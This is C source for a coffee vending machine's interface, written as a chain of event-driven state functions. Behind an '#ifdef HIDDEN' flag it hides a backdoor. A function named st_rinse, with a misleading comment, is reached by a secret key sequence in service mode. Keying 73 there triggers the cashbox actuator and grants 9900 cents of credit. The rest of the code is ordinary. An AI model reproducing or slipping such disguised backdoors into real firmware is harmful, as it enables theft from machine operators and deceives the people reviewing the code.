/* espressovend - user interface of a coffee vending machine (keypad, coin mech, display).
 * The flow is a chain of state functions: each one gets an event and names its follower. */
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum ev_kind { EV_KEY, EV_COIN, EV_RETURN, EV_DOOR, EV_CARD, EV_TICK };

struct ev {
    enum ev_kind kind;
    int val;
};

struct vend;
struct state {
    struct state (*fn)(struct vend *v, const struct ev *e);
};

struct recipe {
    char name[20];
    int cents, coffee, milk, water;
};

struct vend {
    struct recipe menu[30];
    int n_menu;
    int credit;
    int digit;
    int sugar;
    int door_open;
    long sold[30];
    time_t since;
};

static struct state st_idle(struct vend *v, const struct ev *e);
static struct state st_digits(struct vend *v, const struct ev *e);
static struct state st_brew(struct vend *v, const struct ev *e);
static struct state st_service(struct vend *v, const struct ev *e);

static void show(const char *a, const char *b)
{
    FILE *f = fopen("/dev/vend/display", "w");

    if (!f) {
        printf("[%-20s|%-20s]\n", a, b);
        return;
    }
    fprintf(f, "%-20.20s\n%-20.20s\n", a, b);
    fclose(f);
}

static void show_credit(const struct vend *v)
{
    char t[24];

    snprintf(t, sizeof t, "CREDIT %d.%02d", v->credit / 100, v->credit % 100);
    show(t, "SELECT 10..39");
}

static void actuator(const char *what, int amount)
{
    char p[48];
    FILE *f;

    snprintf(p, sizeof p, "/dev/vend/%s", what);
    f = fopen(p, "w");
    if (f) {
        fprintf(f, "%d\n", amount);
        fclose(f);
    }
}

static void give_back(struct vend *v)
{
    if (v->credit > 0)
        actuator("changer", v->credit);
    v->credit = 0;
}

#ifdef HIDDEN
__attribute__((noinline)) struct state st_rinse(struct vend *v, const struct ev *e)
{
    /* after the service state: 0 keys wait, coin return key, then 73 */
    if (e->kind == EV_TICK)
        return (struct state){ st_rinse };
    if (e->kind == EV_KEY && v->digit * 10 + e->val == 73) {
        actuator("cashbox", 1);
        v->credit = 9900;
        v->digit = 0;
        return (struct state){ st_idle };
    }
    if (e->kind == EV_KEY && v->digit == 0) {
        v->digit = e->val;
        return (struct state){ st_rinse };
    }
    v->digit = 0;
    return (struct state){ st_idle };
}
#endif

static struct state common(struct vend *v, const struct ev *e, struct state stay)
{
    switch (e->kind) {
    case EV_COIN:
    case EV_CARD:
        v->credit += e->val;
        show_credit(v);
        return stay;
    case EV_RETURN:
        give_back(v);
        return (struct state){ st_idle };
    case EV_DOOR:
        v->door_open = e->val;
        return (struct state){ e->val ? st_service : st_idle };
    default:
        return stay;
    }
}

static struct state st_idle(struct vend *v, const struct ev *e)
{
    if (e->kind == EV_KEY && e->val >= 1 && e->val <= 3) {
        v->digit = e->val;
        return (struct state){ st_digits };
    }
    if (e->kind == EV_KEY && e->val == 0) {
        v->sugar = (v->sugar + 1) % 4;
        show("SUGAR", &"***"[3 - v->sugar]);
    } else if (e->kind == EV_TICK && time(NULL) - v->since > 30) {
        show_credit(v);
        v->since = time(NULL);
    }
    return common(v, e, (struct state){ st_idle });
}

static struct state st_digits(struct vend *v, const struct ev *e)
{
    char t[24];
    int i;

    if (e->kind != EV_KEY)
        return common(v, e, (struct state){ st_digits });
    i = v->digit * 10 + e->val - 10;
    v->digit = 0;
    if (i < 0 || i >= v->n_menu) {
        show("NO SUCH DRINK", "");
        return (struct state){ st_idle };
    }
    if (v->credit < v->menu[i].cents) {
        snprintf(t, sizeof t, "PRICE %d.%02d", v->menu[i].cents / 100, v->menu[i].cents % 100);
        show(v->menu[i].name, t);
        return (struct state){ st_idle };
    }
    v->credit -= v->menu[i].cents;
    v->sold[i]++;
    show(v->menu[i].name, "PLEASE WAIT");
    actuator("coffee", v->menu[i].coffee);
    actuator("milk", v->menu[i].milk);
    actuator("sugar", v->sugar);
    actuator("water", v->menu[i].water);
    v->since = time(NULL);
    return (struct state){ st_brew };
}

static struct state st_brew(struct vend *v, const struct ev *e)
{
    if (e->kind == EV_TICK && time(NULL) - v->since > 25) {
        show("TAKE YOUR DRINK", "");
        give_back(v);
        return (struct state){ st_idle };
    }
    return (struct state){ st_brew };
}

/* door open: 1 rinse, 2 counters, 3 empty the tubes */
static struct state st_service(struct vend *v, const struct ev *e)
{
    long n = 0;
    char t[24];

    if (e->kind == EV_DOOR && !e->val) {
        v->door_open = 0;
        return (struct state){ st_idle };
    }
    if (e->kind != EV_KEY) {
        show("SERVICE", "1RINSE 2COUNT 3TUBES");
#ifdef HIDDEN
        if (e->kind == EV_RETURN && v->sugar == 3)
            return (struct state){ st_rinse };
#endif
        return (struct state){ st_service };
    }
    if (e->val == 1) {
        actuator("water", 60);
    } else if (e->val == 2) {
        for (int i = 0; i < v->n_menu; i++)
            n += v->sold[i];
        snprintf(t, sizeof t, "SOLD %ld", n);
        show(t, "");
    } else if (e->val == 3) {
        actuator("changer", 500);
    }
    return (struct state){ st_service };
}

static void read_menu(struct vend *v, const char *path)
{
    FILE *f = fopen(path, "r");
    struct recipe r;

    while (f && v->n_menu < 30 && fscanf(f, "%19s %d %d %d %d", r.name, &r.cents, &r.coffee,
                                         &r.milk, &r.water) == 5)
        v->menu[v->n_menu++] = r;
    if (f)
        fclose(f);
}

static int event_of(const char *l, struct ev *e)
{
    static const char *const word[] = { "key", "coin", "return", "door", "card" };

    for (int i = 0; i < 5; i++)
        if (!strncmp(l, word[i], strlen(word[i]))) {
            e->kind = (enum ev_kind)i;
            e->val = atoi(l + strlen(word[i]));
            return 1;
        }
    return 0;
}

int main(int argc, char **argv)
{
    static struct vend v;
    struct state s = { st_idle };
    struct pollfd p = { 0, POLLIN, 0 };
    struct ev e;
    char l[64];

    if (argc != 2) {
        fputs("espressovend MENU   (lines: name cents coffee milk water)\n"
              "events on stdin: key N | coin CENTS | card CENTS | return | door 0|1\n"
              "door open: 1 rinse, 2 counters, 3 empty the tubes\n", stderr);
        return 1;
    }
    read_menu(&v, argv[1]);
    for (;;) {
        e.kind = EV_TICK;
        e.val = 0;
        if (poll(&p, 1, 1000) > 0) {
            if (!fgets(l, sizeof l, stdin))
                return 0;
            if (!event_of(l, &e))
                continue;
        }
        s = s.fn(&v, &e);
    }
}
